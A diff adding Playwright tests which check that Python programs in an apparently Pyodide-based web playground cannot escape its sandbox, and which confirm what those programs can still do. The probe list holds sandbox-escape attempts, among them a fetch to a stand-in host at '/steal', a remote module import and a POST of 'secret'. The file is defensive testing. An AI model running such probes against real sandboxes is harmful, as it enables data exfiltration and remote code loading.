@@ -1,0 +1,113 @@
+"""What programs in the page cannot do: make code of text, load code or send data elsewhere, reach
+what is stored, or speak for the worker."""
+
+import pytest
+from playwright.sync_api import expect
+
+ATTEMPTS = {
+    "eval": "js.eval('1 + 1')",
+    "function": "js.Function.new('return 1')()",
+    "constructor": "js.Array.new.constructor; js.Reflect.construct(js.Function, ['return 1'])()",
+    "timer": "js.setTimeout('globalThis.reached = 1'); await asyncio.sleep(0.1); js.reached",
+    "foreign module": (
+        "from pyodide.code import run_js; await run_js(\"import('http://other.example/x.mjs')\")"
+    ),
+    "fetch elsewhere": "await js.fetch('https://other.example/steal')",
+    "send": "await js.fetch('wheels/', method='POST', body='secret')",
+    "request": "js.XMLHttpRequest.new()",
+    "socket": "js.WebSocket.new('ws://localhost:1/')",
+    "worker": "js.Worker.new(js.URL.createObjectURL(js.Blob.new(['1'])))",
+    "messages": "js.postMessage('hello')",
+    "end": "js.close()",
+    "files": "js.webkitRequestFileSystemSync(0, 1)",
+    "files of others": "js.webkitRequestFileSystem(0, 1)",
+    "databases": "js.indexedDB.databases",
+    "responses": "js.caches.keys",
+    "channel": "js.BroadcastChannel.new('mlcweb')",
+    "storage": "js.navigator.storage.estimate",
+    "locks": "js.navigator.locks.query",
+    "trials": "js.mlcwebTrials.port.postMessage(1)",
+}
+
+PROGRAM = """
+import asyncio, js
+from pyodide.ffi import to_js
+
+async def {name}():
+    {attempt}
+
+try:
+    await {name}()
+    print("{name}:", "reached")
+except BaseException as error:
+    print("{name}:", "refused", type(error).__name__)
+"""
+
+
+@pytest.mark.parametrize("isolated", [True, pytest.param(False, marks=pytest.mark.thorough)])
+def test_what_programs_cannot_do(open_playground, isolated):
+    playground = open_playground(isolated=isolated)
+    programs = [
+        PROGRAM.format(name=name.replace(" ", "_"), attempt=attempt)
+        for name, attempt in ATTEMPTS.items()
+    ]
+    playground.run_to_end("\n".join([*programs, "print('the ' + 'end')"]))
+    console = playground["console"]
+    expect(console).to_contain_text("the end")
+    lines = [line for line in console.inner_text().splitlines() if ":" in line]
+    assert [line for line in lines if "reached" in line] == []
+    assert len([line for line in lines if "refused" in line]) == len(ATTEMPTS)
+    # The browser reports what its policy refused.
+    told = "Content Security Policy"
+    playground.problems[:] = [each for each in playground.problems if told not in each]
+
+
+def test_what_programs_can_do(run):
+    printed = run(
+        """
+import js
+from pyodide.http import pyfetch
+answer = await pyfetch(js.location.origin + "/wheels/manifest.json")
+print("fetched", (await answer.json())["file"].startswith("mlcweb"))
+print("cores", js.navigator.hardwareConcurrency > 0)
+import tvm
+from tvm.script import tir as T
+@T.prim_func
+def double(A: T.Buffer((4,), "float32")):
+    for i in range(4):
+        with T.block("A"):
+            vi = T.axis.spatial(4, i)
+            A[vi] = A[vi] * 2.0
+a = tvm.nd.array(__import__("numpy").ones(4, "float32"))
+tvm.build(double, target="wasm")["double"](a)
+print("kernel", a.numpy().sum())
+"""
+    )
+    for line in ("fetched True", "cores True", "kernel 8.0"):
+        assert line in printed
+
+
+FORGED = """
+import js
+for name, data in {"picture": "null", "search": "null", "nothing": "[]"}.items():
+    try:
+        js.mlcwebTell(name, data)
+    except Exception as error:
+        print("refused", name)
+try:
+    js.mlcwebTell("picture", "{")
+except Exception:
+    print("refused text")
+print("the end")
+"""
+
+
+def test_what_a_program_tells_the_page_falsely_is_ignored(playground):
+    playground.run_to_end(FORGED)
+    console = playground["console"]
+    expect(console).to_contain_text("refused picture")
+    expect(console).to_contain_text("refused text")
+    expect(console).to_contain_text("the end")
+    playground.open_view("search")
+    playground.run_to_end("print('once ' + 'more')")
+    expect(console).to_contain_text("once more")
